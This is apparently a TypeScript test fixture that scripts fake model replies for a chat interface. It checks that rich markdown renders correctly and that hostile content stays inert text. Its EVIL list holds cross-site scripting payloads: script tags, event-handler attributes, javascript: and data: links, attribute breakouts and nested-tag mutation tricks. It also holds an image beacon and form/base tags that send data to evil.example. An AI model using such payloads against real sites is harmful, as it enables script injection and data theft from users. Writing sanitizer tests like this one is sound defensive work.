import type { ScriptRule } from "../../fakes/model-server.ts";
import { contentText } from "../../fakes/model/script.ts";
import { slowly } from "./chat.ts";

const RICH = `A comparison:

| Way | Cost |
|---|---:|
| Edits | 1 |

\`\`\`ts
export const n: string = "<&>" + 1;
\`\`\`

\`\`\`html
<style>b { top: 1 }</style><i>
\`\`\`

1. **First**
2. [Docs](https://example.com/docs)`;

/** What must stay text, wherever it comes from. */
const EVIL = [
  "<script>window.evil = 1</script>",
  "<img src=x onerror=window.evil=1>",
  "<svg onload=window.evil=1><iframe src='javascript:window.evil=1'></iframe></svg>",
  "[click](javascript:window.evil=1) [data](data:text/html,<script>window.evil=1</script>)",
  "[colon](JaVa\tScript:window.evil=1) [vb](vbscript:x) <a href='javascript:window.evil=1'>a</a>",
  "![steal](https://evil.example/pixel.png?secret) ![x](javascript:window.evil=1)",
  "<style>body{display:none}</style><base href='https://evil.example/'><form action='https://evil.example/'>",
  '[attr](https://ok.example/"onmouseover="window.evil=1) <https://ok.example/"onclick=window.evil=1>',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.evil=1></style></mglyph></table></mtext></math>",
  '```html\n<img src=x onerror=window.evil=1>\n```\n\n```"><img/src=x/onerror=window.evil=1>\nx\n```',
  "[ref]\n\n[ref]: javascript:window.evil=1\n\n| <img src=x onerror=window.evil=1> |\n|---|\n| <script>window.evil=1</script> |",
].join("\n\n");

/** What the model says in the suite, by the first word of whoever asks. */
export function answers(): ScriptRule {
  const failed = new Set<string>();
  return ({ messages }) => {
    const last = messages.at(-1);
    const asked = contentText(messages.findLast(({ role }) => role === "user"));
    if (last?.role === "tool") return { text: `Done: ${contentText(last)}` };
    const [word = "", first = "", second = ""] = asked.split(" ");
    switch (word) {
      case "slow":
        return slowly(first, Number(second));
      case "rich":
        return { text: RICH };
      case "code":
        return { text: `\`\`\`js\n${"const one = 1;\n".repeat(40)}\`\`\``, chunkChars: 15, chunkEveryMs: 50 };
      case "refer":
        return { text: `See [the page][1].\n\n[1]: ${first}` };
      case "both":
        return { text: "Two ways:\n\nالسلام عليكم." };
      case "evil":
        return { text: EVIL };
      case "count":
        return { text: "I count.", toolCalls: [{ name: "countLines", args: { text: EVIL } }] };
      case "think":
        return { reasoning: `${EVIL}\n\nThe word is heron.`, text: "A heron.", chunkChars: 40, chunkEveryMs: 100 };
      case "mail":
        return { toolCalls: [{ name: "sendMail", args: { to: "ann" } }] };
      case "fail":
        if (failed.has(asked)) return undefined;
        failed.add(asked);
        return { fault: "bad-request" };
      default:
        return undefined;
    }
  };
}
